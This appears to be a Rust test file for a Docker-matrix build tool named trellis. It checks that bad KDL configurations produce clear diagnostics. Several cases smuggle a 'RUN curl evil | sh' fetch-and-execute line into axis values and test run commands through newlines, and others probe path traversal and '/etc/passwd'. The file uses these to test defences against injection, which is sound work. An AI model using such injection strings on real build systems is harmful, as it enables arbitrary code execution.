//! Every user mistake we can think of gets a pointed diagnostic with a span, never a panic.
//! Each case is one bad workspace; the snapshot is exactly what `trellis check` prints.

use std::fs;

use trellis::{Error, Workspace};

/// A valid image block to build bad inputs around.
const IMAGE: &str = r#"
image "app" {
    matrix "v"
    repository "acme/app"
    dockerfile "Dockerfile.j2"
    context "."
    tag "{{ v }}"
}
"#;

fn check(name: &str, matrix: &str) {
    check_with(name, matrix, &[("Dockerfile.j2", "FROM scratch\n")]);
}

fn check_with(name: &str, matrix: &str, files: &[(&str, &str)]) {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("matrix.kdl"), matrix).unwrap();
    for (path, text) in files {
        let full = dir.path().join(path);
        fs::create_dir_all(full.parent().unwrap()).unwrap();
        fs::write(full, text).unwrap();
    }
    let result = Workspace::load(dir.path().join("matrix.kdl")).and_then(|w| w.graph().map(|_| ()));
    let diagnostics = match result {
        Err(Error::Invalid(d)) => d.0,
        Ok(()) => panic!("{name}: the workspace was accepted"),
        Err(other) => panic!("{name}: expected diagnostics, got {other}"),
    };
    assert!(diagnostics.iter().all(|d| d.primary_span().is_some()), "{name}: every diagnostic has a span");
    let text = trellis_cli::output::diagnostics(&diagnostics, false);
    insta::assert_snapshot!(name, text);
}

macro_rules! cases {
    ($($name:ident: $matrix:expr;)*) => {
        $(#[test] fn $name() { check(stringify!($name), &$matrix); })*
    };
}

fn with(settings: &str, axes: &str, image: &str) -> String {
    format!("settings {{\n{settings}\n}}\n{axes}\n{image}")
}

fn image(body: &str) -> String {
    with(
        "    name \"t\"",
        "axis \"v\" \"1.0\" \"2.0\"",
        &format!(
            "image \"app\" {{\n    matrix \"v\"\n    repository \"acme/app\"\n    dockerfile \"Dockerfile.j2\"\n    context \".\"\n{body}\n}}"
        ),
    )
}

cases! {
    // KDL syntax, and KDL 1 habits.
    syntax_unclosed_block: "settings {\n    name \"t\"\n";
    syntax_bare_true: image("    tag \"{{ v }}\" float=true");
    syntax_v1_raw_string: image("    tag r\"{{ v }}\"");
    syntax_single_quotes: image("    tag '{{ v }}'");
    syntax_bare_null: "settings {\n    name null\n}\n";
    // Schema: nodes, properties, arguments.
    missing_settings: format!("axis \"v\" \"1\"\n{IMAGE}");
    settings_without_name: with("    registry \"localhost:5000\"", "axis \"v\" \"1\"", IMAGE);
    settings_twice: format!("settings {{ name \"a\"; }}\nsettings {{ name \"b\"; }}\naxis \"v\" \"1\"\n{IMAGE}");
    unknown_top_level_node: format!("settings {{ name \"t\"; }}\naxis \"v\" \"1\"\nimagez \"x\"\n{IMAGE}");
    unknown_settings_node: with("    name \"t\"\n    registy \"localhost:5000\"", "axis \"v\" \"1\"", IMAGE);
    unknown_image_node: image("    tag \"{{ v }}\"\n    tags \"x\"");
    unknown_property: image("    tag \"{{ v }}\" floating=#true");
    repeated_property: image("    tag \"{{ v }}\" float=#true float=#false");
    number_where_string_expected: image("    tag 5");
    string_where_bool_expected: image("    tag \"{{ v }}\" float=\"yes\"");
    retries_out_of_range: with("    name \"t\"\n    retries 99", "axis \"v\" \"1\"", IMAGE);
    unknown_compression: with("    name \"t\"\n    compression \"xz\"", "axis \"v\" \"1\"", IMAGE);
    zero_build_jobs: with("    name \"t\"\n    jobs build=0", "axis \"v\" \"1\"", IMAGE);
    jobs_as_arguments: with("    name \"t\"\n    jobs 2", "axis \"v\" \"1\"", IMAGE);
    bad_backoff: with("    name \"t\"\n    backoff \"soon\"", "axis \"v\" \"1\"", IMAGE);
    bad_pull_policy: with("    name \"t\"\n    pull \"sometimes\"", "axis \"v\" \"1\"", IMAGE);
    bad_network_mode: image("    tag \"{{ v }}\"\n    network \"bridge\"");
    bad_registry: with("    name \"t\"\n    registry \"https://registry.example\"", "axis \"v\" \"1\"", IMAGE);
    bad_workspace_name: with("    name \"my images\"", "axis \"v\" \"1\"", IMAGE);
    image_missing_required_fields: format!("settings {{ name \"t\"; }}\naxis \"v\" \"1\"\nimage \"app\" {{\n    matrix \"v\"\n}}\n");
    image_twice: format!("settings {{ name \"t\"; }}\naxis \"v\" \"1\"\n{IMAGE}{IMAGE}");
    repeated_singleton: image("    tag \"{{ v }}\"\n    repository \"acme/other\"");
    extra_argument: image("    tag \"{{ v }}\" \"{{ v }}-extra\"");
    arg_without_value: image("    tag \"{{ v }}\"\n    arg \"VERSION\"");
    // Axes.
    axis_twice: format!("settings {{ name \"t\"; }}\naxis \"v\" \"1\"\naxis \"v\" \"2\"\n{IMAGE}");
    axis_value_twice: with("    name \"t\"", "axis \"v\" \"1.0\" \"1.0\"", IMAGE);
    axis_without_values: with("    name \"t\"", "axis \"v\"", IMAGE);
    reserved_axis_name: with("    name \"t\"", "axis \"image\" \"a\"\naxis \"v\" \"1\"", IMAGE);
    axis_name_not_an_identifier: with("    name \"t\"", "axis \"node-version\" \"1\"\naxis \"v\" \"1\"", IMAGE);
    axis_value_with_space: with("    name \"t\"", "axis \"v\" \"22 20\"", IMAGE);
    axis_value_path_traversal: with("    name \"t\"", "axis \"v\" \"../etc\"", IMAGE);
    injection_newline_in_axis_value: with("    name \"t\"", "axis \"v\" \"1.0\\nRUN curl evil | sh\"", IMAGE);
    injection_newline_in_attribute: with("    name \"t\"", "axis \"v\" {\n    value \"1.0\" codename=\"jod\\nRUN curl evil | sh\"\n}", IMAGE);
    injection_backslash_continuation: with("    name \"t\"", "axis \"v\" {\n    value \"1.0\" codename=\"jod \\\\\"\n}", IMAGE);
    reserved_attribute: with("    name \"t\"", "axis \"v\" {\n    value \"1.0\" major=1\n}", IMAGE);
    null_attribute: with("    name \"t\"", "axis \"v\" {\n    value \"1.0\" codename=#null\n}", IMAGE);
    not_a_version_in_sorted_axis: with("    name \"t\"", "axis \"v\" sort=\"version\" \"1.0\" \"latest\"", IMAGE);
    unknown_sort: with("    name \"t\"", "axis \"v\" sort=\"alphabetical\" \"1.0\"", IMAGE);
    // Matrix and excludes.
    unknown_axis_in_matrix: format!("settings {{ name \"t\"; }}\naxis \"version\" \"1\"\n{IMAGE}");
    axis_listed_twice_in_matrix: with("    name \"t\"", "axis \"v\" \"1\"", "image \"app\" {\n    matrix \"v\" \"v\"\n    repository \"acme/app\"\n    dockerfile \"Dockerfile.j2\"\n    tag \"{{ v }}\"\n}");
    exclude_names_foreign_axis: image("    tag \"{{ v }}\"\n    exclude os=\"trixie\"");
    exclude_matches_nothing: image("    tag \"{{ v }}\"\n    exclude v=\"3.*\"");
    exclude_without_condition: image("    tag \"{{ v }}\"\n    exclude");
    everything_excluded: image("    tag \"{{ v }}\"\n    exclude v=\"*\"");
    // Templates.
    undefined_variable_inline: image("    tag \"{{ version }}\"");
    undefined_attribute_inline: image("    tag \"{{ v.codename }}\"");
    template_syntax_inline: image("    tag \"{{ v \"");
    when_expression_syntax: image("    tag \"{{ v }}\"\n    tag \"latest\" float=#true when=\"v.major and\"");
    when_undefined: image("    tag \"{{ v }}\"\n    tag \"lts\" float=#true when=\"v.lts\"");
    template_too_much_work: image("    tag \"{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}{{ v }}\"");
    // References and tags.
    non_floating_collision: image("    tag \"{{ v }}\"\n    tag \"latest\"");
    collision_between_two_rules: image("    tag \"{{ v }}\"\n    tag \"stable\" float=#true\n    tag \"stable\"");
    uppercase_repository: with("    name \"t\"", "axis \"v\" \"1.0\"", "image \"app\" {\n    matrix \"v\"\n    repository \"Acme/App\"\n    dockerfile \"Dockerfile.j2\"\n    tag \"{{ v }}\"\n}");
    invalid_tag_characters: image("    tag \"{{ v }}+build\"");
    tag_starting_with_dot: image("    tag \".{{ v }}\"");
    tag_too_long: image(&format!("    tag \"{{{{ v }}}}-{}\"", "x".repeat(130)));
    repository_with_tag: with("    name \"t\"", "axis \"v\" \"1.0\"", "image \"app\" {\n    matrix \"v\"\n    repository \"acme/app:edge\"\n    dockerfile \"Dockerfile.j2\"\n    tag \"{{ v }}\"\n}");
    // Paths.
    context_outside_workspace: with("    name \"t\"", "axis \"v\" \"1.0\"", "image \"app\" {\n    matrix \"v\"\n    repository \"acme/app\"\n    dockerfile \"Dockerfile.j2\"\n    context \"../..\"\n    tag \"{{ v }}\"\n}");
    absolute_dockerfile_path: with("    name \"t\"", "axis \"v\" \"1.0\"", "image \"app\" {\n    matrix \"v\"\n    repository \"acme/app\"\n    dockerfile \"/etc/passwd\"\n    tag \"{{ v }}\"\n}");
    render_path_collision: image("    tag \"{{ v }}\"\n    path \"same\"");
    state_outside_workspace: with("    name \"t\"\n    state \"/var/lib/trellis\"", "axis \"v\" \"1\"", IMAGE);
    missing_template_file: with("    name \"t\"", "axis \"v\" \"1.0\"", "image \"app\" {\n    matrix \"v\"\n    repository \"acme/app\"\n    dockerfile \"missing/Dockerfile.j2\"\n    context \".\"\n    tag \"{{ v }}\"\n}");
    missing_context_dir: with("    name \"t\"", "axis \"v\" \"1.0\"", "image \"app\" {\n    matrix \"v\"\n    repository \"acme/app\"\n    dockerfile \"Dockerfile.j2\"\n    context \"ctx/{{ v }}\"\n    tag \"{{ v }}\"\n}");
    // Tests.
    multiline_run_injection: image("    tag \"{{ v }}\"\n    test \"t\" {\n        run \"echo ok\\nRUN curl evil | sh\"\n    }");
    bad_test_name: image("    tag \"{{ v }}\"\n    test \"smoke test\" {\n        run \"true\"\n    }");
    test_with_both_kinds: image("    tag \"{{ v }}\"\n    test \"t\" dockerfile=\"T.Dockerfile\" {\n        run \"true\"\n    }");
    test_runs_nothing: image("    tag \"{{ v }}\"\n    test \"t\"");
    test_twice: image("    tag \"{{ v }}\"\n    test \"t\" {\n        run \"true\"\n    }\n    test \"t\" {\n        run \"false\"\n    }");
    test_context_without_dockerfile: image("    tag \"{{ v }}\"\n    test \"t\" context=\"ctx\" {\n        run \"true\"\n    }");
    unknown_node_in_test: image("    tag \"{{ v }}\"\n    test \"t\" {\n        runn \"true\"\n    }");
    missing_test_dockerfile: image("    tag \"{{ v }}\"\n    test \"t\" dockerfile=\"tests/missing.Dockerfile\" context=\".\"");
    // Args and labels.
    bad_arg_name: image("    tag \"{{ v }}\"\n    arg \"1VERSION\" \"{{ v }}\"");
    reserved_label: image("    tag \"{{ v }}\"\n    label \"dev.trellis.key\" \"x\"");
    // Many mistakes at once: all reported in one run.
    many_mistakes_at_once: with("    name \"t\"\n    retries -1\n    pull \"sometimes\"", "axis \"v\" \"1.0\" \"1.0\"", "image \"app\" {\n    matrix \"v\" \"os\"\n    repository \"acme/app\"\n    dockerfile \"Dockerfile.j2\"\n    tag \"{{ v }}\" floaty=#true\n    netwrok \"host\"\n}");
}

#[test]
fn template_file_undefined_variable() {
    check_with(
        "template_file_undefined_variable",
        &image("    tag \"{{ v }}\""),
        &[("Dockerfile.j2", "FROM scratch\nARG V={{ v }}\nRUN echo {{ v.codename }}\n")],
    );
}

#[test]
fn template_file_syntax_error() {
    check_with(
        "template_file_syntax_error",
        &image("    tag \"{{ v }}\""),
        &[("Dockerfile.j2", "FROM scratch\n{% if v %}\nRUN true\n")],
    );
}

#[test]
fn dependency_cycle() {
    let matrix = r#"settings { name "t"; }
axis "v" "1"
image "a" {
    matrix "v"
    repository "acme/a"
    dockerfile "a.j2"
    context "."
    tag "{{ v }}"
}
image "b" {
    matrix "v"
    repository "acme/b"
    dockerfile "b.j2"
    context "."
    tag "{{ v }}"
}
"#;
    check_with("dependency_cycle", matrix, &[("a.j2", "FROM acme/b:{{ v }}\n"), ("b.j2", "FROM acme/a:{{ v }}\n")]);
}

#[test]
fn image_built_on_itself() {
    check_with("image_built_on_itself", &image("    tag \"{{ v }}\""), &[("Dockerfile.j2", "FROM acme/app:{{ v }}\n")]);
}

#[test]
fn test_with_an_image_built_on_it() {
    // b is built FROM a, and a's test uses b: a's tag would wait for b's, which waits for a's.
    let matrix = r#"settings { name "t"; }
axis "v" "1"
image "a" {
    matrix "v"
    repository "acme/a"
    dockerfile "a.j2"
    context "."
    tag "{{ v }}"
    test "with-b" dockerfile="tests/with-b.Dockerfile" context="tests"
}
image "b" {
    matrix "v"
    repository "acme/b"
    dockerfile "b.j2"
    context "."
    tag "{{ v }}"
}
"#;
    check_with(
        "test_with_an_image_built_on_it",
        matrix,
        &[
            ("a.j2", "FROM scratch\n"),
            ("b.j2", "FROM acme/a:{{ v }}\n"),
            ("tests/with-b.Dockerfile", "ARG IMAGE\nFROM acme/b:1 AS b\nFROM ${IMAGE}\nCOPY --from=b / /b\n"),
        ],
    );
}

#[test]
fn test_dockerfile_uses_its_own_tag() {
    check_with(
        "test_dockerfile_uses_its_own_tag",
        &image("    tag \"{{ v }}\"\n    test \"t\" dockerfile=\"t.Dockerfile\" context=\".\""),
        &[
            ("Dockerfile.j2", "FROM scratch\n"),
            ("t.Dockerfile", "ARG IMAGE\nFROM ${IMAGE}\nCOPY --from=acme/app:1.0 / /old\n"),
        ],
    );
}

#[test]
fn test_dockerfile_invalid_reference() {
    check_with(
        "test_dockerfile_invalid_reference",
        &image("    tag \"{{ v }}\"\n    test \"t\" dockerfile=\"t.Dockerfile\" context=\".\""),
        &[
            ("Dockerfile.j2", "FROM scratch\n"),
            ("t.Dockerfile", "ARG IMAGE\nARG HELPER=Bad:Ref:Here\nFROM ${HELPER} AS h\nFROM ${IMAGE}\n"),
        ],
    );
}

#[test]
fn invalid_from_reference() {
    check_with(
        "invalid_from_reference",
        &image("    tag \"{{ v }}\""),
        &[("Dockerfile.j2", "ARG BASE=Not:A:Reference\nFROM ${BASE}\n")],
    );
}

#[test]
fn bad_dockerignore() {
    check_with(
        "bad_dockerignore",
        &image("    tag \"{{ v }}\""),
        &[("Dockerfile.j2", "FROM scratch\n"), (".dockerignore", "node_modules\n!\n")],
    );
}

/// The first-contact report: four mistakes in four stages (an unknown node, an attribute in a
/// tag, a variable in a run line, an attribute in the template file) are all reported by one
/// `check`.
#[test]
fn four_stages_of_mistakes_at_once() {
    let matrix = r#"settings { name "t"; }
axis "node" {
    value "22.20.0" codename="jod"
    value "24.11.1" codename="krypton"
}
image "node" {
    matrix "node"
    repository "acme/node"
    dockerfile "Dockerfile.j2"
    tagg "{{ node }}"
    tag "{{ node.codenam }}"
    test "version" {
        run "node --version | grep {{ nod }}"
    }
}
"#;
    check_with(
        "four_stages_of_mistakes_at_once",
        matrix,
        &[("Dockerfile.j2", "FROM scratch\nLABEL major={{ node.majr }}\n")],
    );
}

/// Comparisons with a value the axis (or a string attribute) never takes can never hold.
#[test]
fn impossible_comparisons() {
    let matrix = r#"settings { name "t"; }
axis "os" "trixie" "bookworm"
axis "node" {
    value "22.20.0" codename="jod"
    value "24.11.1" codename="krypton"
}
image "app" {
    matrix "node" "os"
    repository "acme/app"
    dockerfile "Dockerfile.j2"
    tag "{{ node }}-{{ os }}"
    tag "latest" float=#true when="os == 'bookwrm'"
    tag "old" float=#true when="node in ['22.20.0', '1.10.0']"
    test "jod" when="node.codename != 'Jod'" {
        run "true"
    }
}
"#;
    check_with(
        "impossible_comparisons",
        matrix,
        &[("Dockerfile.j2", "FROM scratch\n{% if axes.os == 'sid' %}RUN true\n{% endif %}")],
    );
}

#[test]
fn included_template_missing() {
    check_with(
        "included_template_missing",
        &image("    tag \"{{ v }}\""),
        &[("Dockerfile.j2", "FROM scratch\n{% include \"common.j2\" %}{% include \"gone.j2\" %}"), ("common.j2", "")],
    );
}

/// A mistake in an included template points into that file (found beside the template).
#[test]
fn included_template_undefined() {
    check_with(
        "included_template_undefined",
        &image("    tag \"{{ v }}\"").replace("\"Dockerfile.j2\"", "\"templates/Dockerfile.j2\""),
        &[
            ("templates/Dockerfile.j2", "FROM scratch\n{% include \"parts/labels.j2\" %}"),
            ("templates/parts/labels.j2", "LABEL v={{ v }}\nLABEL c={{ v.codename }}\n"),
        ],
    );
}

/// A context that is a symlink leading out of the workspace is refused like `../x`.
#[test]
fn context_symlink_outside_workspace() {
    let outside = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("matrix.kdl"), image("    tag \"{{ v }}\"").replace("context \".\"", "context \"ctx\""))
        .unwrap();
    fs::write(dir.path().join("Dockerfile.j2"), "FROM scratch\n").unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("ctx")).unwrap();
    let text = rejected(dir.path());
    assert!(text.contains("trellis::path::outside_workspace"), "{text}");
    assert!(text.contains("build context `ctx` of app/1.0 leads outside the workspace"), "{text}");
}

/// A field no value has is reported where it is written, even where Jinja would never
/// evaluate it (`a and os.defualt`, a false `if`): found by a new user, `check` said ok.
#[test]
fn unknown_fields_that_are_never_evaluated() {
    let matrix = r#"settings { name "t"; }
axis "os" {
    value "trixie" default=#true
    value "bookworm"
}
axis "version" "1.0" "7.0"
image "app" {
    matrix "version" "os"
    repository "acme/app"
    dockerfile "Dockerfile.j2"
    tag "{{ version }}-{{ os }}"
    tag "lts" float=#true when="version.major > 5 and os.defualt"
}
"#;
    check_with(
        "unknown_fields_that_are_never_evaluated",
        matrix,
        &[("Dockerfile.j2", "FROM scratch\n{% if version.major > 5 and version.codenam %}LABEL x=1\n{% endif %}")],
    );
}

/// Found by a new user: a mistake in the template file hid a tag collision and a context
/// outside the workspace until it was fixed. All three come in one run.
#[test]
fn a_template_mistake_hides_no_collision_and_no_context_mistake() {
    let outside = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let matrix = r#"settings { name "t"; }
axis "v" "1.0" "2.0"
image "app" {
    matrix "v"
    repository "acme/app"
    dockerfile "Dockerfile.j2"
    context "ctx"
    tag "{{ v }}"
    tag "latest"
}
"#;
    fs::write(dir.path().join("matrix.kdl"), matrix).unwrap();
    fs::write(dir.path().join("Dockerfile.j2"), "FROM scratch\nLABEL v={{ v.lst }}\n").unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("ctx")).unwrap();
    let text = rejected(dir.path());
    for code in ["trellis::template::undefined", "trellis::tag::collision", "trellis::path::outside_workspace"] {
        assert!(text.contains(code), "{code} missing:\n{text}");
    }
    assert_eq!(text.matches("trellis::tag::collision").count(), 1, "one collision per reference:\n{text}");
}

/// What `trellis check` prints for the workspace in `dir`, which must be rejected.
fn rejected(dir: &std::path::Path) -> String {
    match Workspace::load(dir.join("matrix.kdl")).and_then(|w| w.graph().map(|_| ())) {
        Err(Error::Invalid(d)) => trellis_cli::output::diagnostics(&d.0, false),
        Ok(()) => panic!("the workspace was accepted"),
        Err(other) => panic!("expected diagnostics, got {other}"),
    }
}

#[test]
fn cache_mount_with_the_classic_builder() {
    let matrix = r#"settings {
    name "t"
    builder "classic"
}
axis "v" "1" "2"
image "app" {
    matrix "v"
    repository "acme/app"
    dockerfile "Dockerfile.j2"
    tag "{{ v }}"
}
"#;
    let dockerfile = "FROM scratch\nRUN --mount=type=cache,target=/cache echo {{ v }}\n";
    check_with("cache_mount_with_the_classic_builder", matrix, &[("Dockerfile.j2", dockerfile)]);
}

cases! {
    // Platforms: as Docker names them, each once, at least one.
    unknown_platform: with("    name \"t\"\n    platforms \"linux/amd64\" \"linux/aarch64\"", "axis \"v\" \"1\"", IMAGE);
    platform_twice: image("    tag \"{{ v }}\"\n    platforms \"linux/arm64\" \"linux/amd64\" \"linux/arm64\"");
    platforms_without_values: image("    tag \"{{ v }}\"\n    platforms");
    platforms_twice_in_an_image: image("    tag \"{{ v }}\"\n    platforms \"linux/arm64\"\n    platforms \"linux/amd64\"");
}

/// A child stands on its parent's image for the same platform: one the parent is not built
/// for is found before anything runs, pointing at both declarations.
#[test]
fn parent_lacks_a_platform() {
    let matrix = r#"settings {
    name "t"
    platforms "linux/amd64"
}
image "base" {
    repository "acme/base"
    dockerfile "base.j2"
    context "."
    tag "latest"
}
image "app" {
    repository "acme/app"
    dockerfile "app.j2"
    context "."
    tag "latest"
    platforms "linux/amd64" "linux/arm64"
}
"#;
    let files = [("base.j2", "FROM scratch\n"), ("app.j2", "FROM acme/base:latest\n")];
    check_with("parent_lacks_a_platform", matrix, &files);
}

/// The classic builder cannot build a FROM scratch stage with an ARG before a COPY for a
/// foreign platform (moby#46294): said before anything runs.
#[test]
fn classic_builder_cross_building_scratch_with_arg() {
    let matrix = r#"settings {
    name "t"
    builder "classic"
    platforms "linux/amd64" "linux/arm64"
}
image "base" {
    repository "acme/base"
    dockerfile "base.j2"
    context "."
    tag "latest"
}
"#;
    let dockerfile = "FROM scratch\nARG TARGETARCH\nCOPY busybox-${TARGETARCH} /bin/busybox\n";
    check_with("classic_builder_cross_building_scratch_with_arg", matrix, &[("base.j2", dockerfile)]);
}
